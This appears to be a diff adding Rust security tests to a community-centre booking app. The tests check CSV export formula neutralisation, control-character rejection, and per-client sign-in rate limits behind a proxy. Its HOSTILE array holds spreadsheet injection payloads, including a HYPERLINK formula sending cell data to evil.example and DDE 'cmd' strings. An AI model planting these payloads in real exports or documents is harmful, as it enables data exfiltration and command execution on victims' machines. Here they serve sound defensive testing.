@@ -1,0 +1,426 @@
+//! Hostile input and abuse (issue 10, items 7–11): formula injection in exports, control
+//! characters in text, sign-in limits behind a proxy, the metrics endpoint, and the smaller
+//! hardening of headers, limits and scans — on SQLite and on PostgreSQL + Redis.
+
+use culturehub::access::Role;
+use culturehub_tests::{both, error_code, Act, TestApp};
+use serde_json::{json, Value};
+
+/// What a hostile resident types, each a formula (or a formula after the first character).
+const HOSTILE: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 制表符开头",
+    "\r=1+1 回车开头",
+];
+
+/// Downloads a CSV export and answers its records (BOM removed), asserting the download
+/// headers on the way.
+async fn csv_records(app: &TestApp, path: &str, token: &str) -> Vec<Vec<String>> {
+    let (status, headers, body) = app.fetch(path, Some(token)).await;
+    assert_eq!(status, 200, "{path}: {}", String::from_utf8_lossy(&body));
+    assert!(
+        headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/csv"),
+        "{path}"
+    );
+    let text = String::from_utf8(body).expect("utf-8");
+    let text = text.strip_prefix('\u{feff}').expect("BOM");
+    let mut rdr = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes());
+    rdr.records()
+        .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// No cell of the export starts with a character that makes a spreadsheet evaluate it.
+fn assert_no_formula(path: &str, records: &[Vec<String>]) {
+    for (i, row) in records.iter().enumerate() {
+        for cell in row {
+            if let Some(c) = cell.chars().next() {
+                assert!(
+                    !['=', '+', '-', '@', '\t', '\r'].contains(&c),
+                    "{path} row {i}: cell {cell:?} would be a formula"
+                );
+            }
+        }
+    }
+}
+
+async fn exports_neutralise_formulas(app: &TestApp) {
+    // A resident attends a session at Yuanling and rates it with a formula as the comment.
+    let (activity, session) = app
+        .activity(Act {
+            starts_in_min: 30,
+            capacity: Some(20),
+            title: "书法公益讲座",
+            ..Act::default()
+        })
+        .await;
+    let (resident, _) = app.sign_in("o-formula-resident").await;
+    let (s, b) = app.book(&resident, session, json!({})).await;
+    assert_eq!(s, 200, "{b}");
+    let booking = b["id"].as_i64().unwrap();
+    let (admin, _) = app
+        .staff("o-formula-admin", Role::CenterAdmin, "ft-main")
+        .await;
+    let (s, v) = app
+        .post(
+            &format!("/api/v1/sessions/{session}/checkin/manual"),
+            Some(&admin),
+            json!({"booking_id": booking}),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    let (s, v) = app
+        .post(
+            "/api/v1/ratings",
+            Some(&resident),
+            json!({"booking_id": booking, "score": 1, "comment": HOSTILE[0]}),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    let rating = v["id"].as_i64().unwrap();
+    // A volunteer whose chosen name is a formula serves the session.
+    let (vol, vol_id) = app
+        .staff(
+            "o-formula-volunteer",
+            Role::Volunteer,
+            "ft-p-yuanling-hongli",
+        )
+        .await;
+    let (s, v) = app
+        .call(
+            "PATCH",
+            "/api/v1/me",
+            Some(&vol),
+            Some(json!({"display_name": "=HYPERLINK(\"x\")"})),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    let (s, v) = app
+        .post(
+            &format!("/api/v1/sessions/{session}/assignments"),
+            Some(&admin),
+            json!({"user_id": vol_id}),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    let unit = app.unit_id("ft-b-yuanling").await;
+    let year = &culturehub_tests::at(app, 30)[..4];
+    let feedback = "/api/v1/feedback/export.csv".to_string();
+    let ledger = format!("/api/v1/stats/ledger.csv?year={year}");
+    let volunteers = format!("/api/v1/units/{unit}/volunteers.csv");
+    let pool = app.state().db.pool();
+    for hostile in HOSTILE {
+        // The same hostile text as the comment, the activity's title and the volunteer's name.
+        sqlx::query("UPDATE ratings SET comment = $1 WHERE id = $2")
+            .bind(hostile)
+            .bind(rating)
+            .execute(pool)
+            .await
+            .unwrap();
+        sqlx::query("UPDATE activities SET title = $1 WHERE id = $2")
+            .bind(hostile)
+            .bind(activity)
+            .execute(pool)
+            .await
+            .unwrap();
+        sqlx::query("UPDATE users SET display_name = $1 WHERE id = $2")
+            .bind(hostile)
+            .bind(vol_id)
+            .execute(pool)
+            .await
+            .unwrap();
+        let rows = csv_records(app, &feedback, &admin).await;
+        assert_no_formula(&feedback, &rows);
+        // The comment is still there in full, as text.
+        assert!(
+            rows.iter()
+                .any(|r| r.iter().any(|c| *c == format!("'{hostile}"))),
+            "feedback export lost the comment {hostile:?}: {rows:?}"
+        );
+        let rows = csv_records(app, &ledger, &admin).await;
+        assert_no_formula(&ledger, &rows);
+        assert!(
+            rows.iter()
+                .any(|r| r.iter().any(|c| *c == format!("'{hostile}"))),
+            "ledger lost the title {hostile:?}: {rows:?}"
+        );
+        let rows = csv_records(app, &volunteers, &admin).await;
+        assert_no_formula(&volunteers, &rows);
+        assert_eq!(rows.len(), 2, "header and the one volunteer: {rows:?}");
+    }
+}
+both!(exports_formula_safe, exports_neutralise_formulas);
+
+/// A text input with a control character is a 422 in the one error shape, on both databases,
+/// wherever it is sent; nothing is stored.
+async fn control_characters_refused(app: &TestApp) {
+    for q in ["%00", "a%00b", "%1B%5B31m", "%C2%85", "%7F"] {
+        let (s, v) = app.get(&format!("/api/v1/activities?q={q}"), None).await;
+        assert_eq!(s, 422, "?q={q}: {v}");
+        assert_eq!(error_code(s, &v), "validation_failed");
+        assert_eq!(v["error"]["details"]["field"], "q", "{v}");
+    }
+    let (s, v) = app.get("/api/v1/demands?status=%00", None).await;
+    assert_eq!((s, error_code(s, &v).as_str()), (422, "validation_failed"));
+    let (resident, uid) = app.sign_in("o-nul-resident").await;
+    let (admin, _) = app.staff("o-nul-admin", Role::CenterAdmin, "ft-main").await;
+    let point = app.unit_id("ft-p-yuanling-hongli").await;
+    let cases: Vec<(&str, &str, &str, Value)> = vec![
+        (
+            "PATCH",
+            "/api/v1/me",
+            resident.as_str(),
+            json!({"display_name": "小\u{0}明"}),
+        ),
+        (
+            "POST",
+            "/api/v1/me/family",
+            resident.as_str(),
+            json!({"name": "小\u{1}红", "relation": "child", "birth_date": "2018-05-01", "guardian_consent": true}),
+        ),
+        (
+            "POST",
+            "/api/v1/demands",
+            resident.as_str(),
+            json!({"kind": "lecture", "unit_id": point, "description": "希望开设书法课\u{0}程，周末"}),
+        ),
+        (
+            "POST",
+            "/api/v1/ratings",
+            resident.as_str(),
+            json!({"booking_id": 1, "score": 5, "comment": "很好\u{0}", "tags": ["老师\u{7f}专业"]}),
+        ),
+        (
+            "POST",
+            "/api/v1/activities",
+            admin.as_str(),
+            json!({"title": "书法\u{0}讲座", "kind": "lecture", "organizer_unit_id": point, "booking_mode": "fcfs", "sessions": []}),
+        ),
+        (
+            "POST",
+            "/api/v1/me/family",
+            resident.as_str(),
+            json!({"name": "小红", "relation": "child\u{9b}", "birth_date": "2018-05-01"}),
+        ),
+    ];
+    for (method, path, token, body) in cases {
+        let (s, v) = app
+            .call(method, path, Some(token), Some(body.clone()))
+            .await;
+        assert_eq!(s, 422, "{method} {path} {body}: {v}");
+        assert_eq!(error_code(s, &v), "validation_failed", "{path}");
+        assert_eq!(v["error"]["details"]["reason"], "control_character");
+    }
+    // Nothing with a NUL was stored anywhere.
+    let name: String = sqlx::query_scalar("SELECT display_name FROM users WHERE id = $1")
+        .bind(uid)
+        .fetch_one(app.state().db.pool())
+        .await
+        .unwrap();
+    assert!(!name.contains('\u{0}'));
+    assert_eq!(
+        app.count("SELECT CAST(COUNT(*) AS BIGINT) FROM demands")
+            .await,
+        0
+    );
+    // Names made only of zero-width characters are empty.
+    for blank in ["\u{200B}\u{200D}", " \u{FEFF} ", "\u{2060}"] {
+        let (s, v) = app
+            .call(
+                "PATCH",
+                "/api/v1/me",
+                Some(&resident),
+                Some(json!({"display_name": blank})),
+            )
+            .await;
+        assert_eq!((s, error_code(s, &v).as_str()), (422, "validation_failed"));
+        let (s, v) = app
+            .post(
+                "/api/v1/me/family",
+                Some(&resident),
+                json!({"name": blank, "relation": "child", "birth_date": "2018-05-01", "guardian_consent": true}),
+            )
+            .await;
+        assert_eq!((s, error_code(s, &v).as_str()), (422, "validation_failed"));
+    }
+    // Ordinary text with line breaks and tabs still goes through.
+    let (s, v) = app
+        .post(
+            "/api/v1/demands",
+            Some(&resident),
+            json!({"kind": "lecture", "unit_id": point, "description": "希望开设书法课程\n周末上午\t最好"}),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    let (s, v) = app
+        .call(
+            "PATCH",
+            "/api/v1/me",
+            Some(&resident),
+            Some(json!({"display_name": "王\u{200B}明"})),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+}
+both!(control_characters, control_characters_refused);
+
+/// Runs `$body(app)` on both databases with settings changed by `$tweak`.
+macro_rules! both_with {
+    ($name:ident, $body:path, $tweak:expr) => {
+        mod $name {
+            #[allow(unused_imports)]
+            use super::*;
+            #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+            async fn sqlite() {
+                if let Some(app) = culturehub_tests::TestApp::start_with(
+                    culturehub_tests::Backend::Sqlite,
+                    stringify!($name),
+                    $tweak,
+                )
+                .await
+                {
+                    ($body)(&app).await;
+                    app.finish().await;
+                }
+            }
+            #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+            async fn postgres() {
+                if let Some(app) = culturehub_tests::TestApp::start_with(
+                    culturehub_tests::Backend::Postgres,
+                    stringify!($name),
+                    $tweak,
+                )
+                .await
+                {
+                    ($body)(&app).await;
+                    app.finish().await;
+                }
+            }
+        }
+    };
+}
+
+/// A POST as if through the reverse proxy for the client `from`.
+async fn post_from(app: &TestApp, from: &str, path: &str, body: Value) -> (u16, Value) {
+    let resp = app
+        .http
+        .post(format!("{}{}", app.url, path))
+        .header("x-forwarded-for", from)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    let status = resp.status().as_u16();
+    let text = resp.text().await.unwrap();
+    (
+        status,
+        serde_json::from_str(&text).unwrap_or(Value::String(text)),
+    )
+}
+
+/// Behind the proxy, one client's wrong codes lock out that client, not everyone; the
+/// forwarded address is believed only from the configured proxy; per-person limits stay.
+async fn signin_limits_per_client(app: &TestApp) {
+    let attacker = "203.0.113.66";
+    let mut limited = 0;
+    for i in 0..35 {
+        let (s, v) = post_from(
+            app,
+            attacker,
+            "/api/v1/auth/wechat",
+            json!({"code": format!("forged-{i}")}),
+        )
+        .await;
+        match s {
+            400 => assert_eq!(error_code(s, &v), "wechat_code_invalid"),
+            429 => {
+                assert_eq!(error_code(s, &v), "rate_limited");
+                limited += 1;
+            }
+            _ => panic!("unexpected {s}: {v}"),
+        }
+    }
+    assert_eq!(limited, 5, "the 31st wrong code and after are refused");
+    // Even a valid code from the attacker's address waits now…
+    let code = app.fake().issue_login_code("o-attacker-real");
+    let (s, _) = post_from(app, attacker, "/api/v1/auth/wechat", json!({"code": code})).await;
+    assert_eq!(s, 429);
+    // … but another resident behind the same proxy signs in.
+    let code = app.fake().issue_login_code("o-honest-resident");
+    let (s, v) = post_from(
+        app,
+        "198.51.100.7",
+        "/api/v1/auth/wechat",
+        json!({"code": code}),
+    )
+    .await;
+    assert_eq!(s, 200, "an honest resident is locked out: {v}");
+    // Anonymous writes too are counted per client (100 a minute here; 36 sign-ins so far).
+    for _ in 0..64 {
+        post_from(app, attacker, "/api/v1/auth/logout", json!({})).await;
+    }
+    let (s, v) = post_from(app, attacker, "/api/v1/auth/logout", json!({})).await;
+    assert_eq!((s, error_code(s, &v).as_str()), (429, "rate_limited"));
+    let (s, v) = post_from(app, "198.51.100.8", "/api/v1/auth/logout", json!({})).await;
+    assert_eq!((s, error_code(s, &v).as_str()), (401, "unauthenticated"));
+    // Per person: the same account signing in again and again is still limited.
+    let mut statuses = Vec::new();
+    for i in 0..31 {
+        let code = app.fake().issue_login_code("o-busy-resident");
+        let (s, _) = post_from(
+            app,
+            &format!("198.51.100.{}", 20 + i),
+            "/api/v1/auth/wechat",
+            json!({"code": code}),
+        )
+        .await;
+        statuses.push(s);
+    }
+    assert!(statuses[..30].iter().all(|s| *s == 200), "{statuses:?}");
+    assert_eq!(statuses[30], 429);
+}
+both_with!(
+    signin_behind_proxy,
+    signin_limits_per_client,
+    |s: &mut culturehub::config::Settings| {
+        s.trusted_proxies = vec!["127.0.0.1".into()];
+        s.rate_limit.signin_per_minute = 30;
+        s.rate_limit.signin_per_minute_per_ip = 300;
+        s.rate_limit.writes_per_minute_per_ip = 100;
+    }
+);
+
+/// Without a configured proxy, `X-Forwarded-For` is the client's own claim and is ignored:
+/// changing it on every request does not escape the limit.
+async fn forwarded_for_not_trusted(app: &TestApp) {
+    let mut limited = 0;
+    for i in 0..32 {
+        let (s, _) = post_from(
+            app,
+            &format!("192.0.2.{i}"),
+            "/api/v1/auth/wechat",
+            json!({"code": format!("forged-{i}")}),
+        )
+        .await;
+        if s == 429 {
+            limited += 1;
+        }
+    }
+    assert_eq!(limited, 2);
+}
+both_with!(
+    forwarded_for_ignored,
+    forwarded_for_not_trusted,
+    |s: &mut culturehub::config::Settings| {
+        s.rate_limit.signin_per_minute = 30;
+    }
+);
